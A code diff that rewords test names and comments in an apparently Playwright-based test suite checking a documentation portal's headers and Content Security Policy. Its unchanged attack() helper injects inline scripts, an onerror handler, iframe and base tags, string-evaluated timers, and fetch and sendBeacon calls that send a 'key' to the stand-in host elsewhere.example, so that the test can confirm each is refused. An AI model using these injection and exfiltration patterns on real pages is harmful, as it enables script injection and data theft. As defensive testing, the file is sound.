@@ -5,12 +5,12 @@ import {Console} from '../pages/Console';
 import {BUILD, expect, test} from '../test';
 import {watch} from '../traffic';
 
-test('every answer has the headers; what never changes may be cached, the rest is asked for again', async ({request, served}) => {
+test('every response has the headers, files that never change may be cached, and the rest is revalidated', async ({request, served}) => {
   await expectHeaders(request, served.url);
   await expectTwins(request, served.url);
 });
 
-/** Tries what a hostile text would try, were it ever to become part of a page; notes what has worked and what was refused. */
+/** Tries what a hostile text would try if it became part of a page. Records what worked and what was refused. */
 function attack(): void {
   const seen = {kinds: [] as string[], done: [] as string[]};
   const did = (what: string): unknown => seen.done.push(what);
@@ -18,7 +18,7 @@ function attack(): void {
   addEventListener('securitypolicyviolation', ({effectiveDirective}) => seen.kinds.push(effectiveDirective));
   const add = <K extends keyof HTMLElementTagNameMap>(name: K, fields: Partial<HTMLElementTagNameMap[K]>): HTMLElementTagNameMap[K] =>
     document.body.appendChild(Object.assign(document.createElement(name), fields));
-  // What is evaluated for a test may do anything; from a timer on the page's own rules hold.
+  // Code that a test evaluates may do anything. In a timer, the page's own policy applies.
   setTimeout(() => {
     add('script', {textContent: "did('script')"});
     const markup = add('div', {innerHTML: `<img src="data:," onerror="did('handler')"><p style="color: rgb(1, 2, 3)">Text</p>`});
@@ -28,14 +28,14 @@ function attack(): void {
     add('iframe', {src: 'https://elsewhere.example/'});
     add('base', {href: 'https://elsewhere.example/'});
     if (document.baseURI.includes('elsewhere')) did('base');
-    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- it has to be refused
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- it must be refused
     setTimeout("did('text of a timer')");
     void fetch('https://elsewhere.example/key').then(() => did('fetch'));
     navigator.sendBeacon('https://elsewhere.example/beacon', 'key');
   });
 }
 
-test('what a hostile text might do is refused by the policy', async ({page, portal, violations}) => {
+test('the policy refuses everything that a hostile text might do', async ({page, portal, violations}) => {
   await portal.open('docs/intro');
   const seen = watch(page);
   await page.evaluate(attack);
@@ -59,7 +59,7 @@ test('what a hostile text might do is refused by the policy', async ({page, port
   violations.length = 0;
 });
 
-test('the editor of JSON has its styles under the policy', async ({page}) => {
+test('the JSON editor has its styles under the policy', async ({page}) => {
   const call = new Console(page);
   await call.start('indices-controller-create-index');
   await call.action('JSON').click();
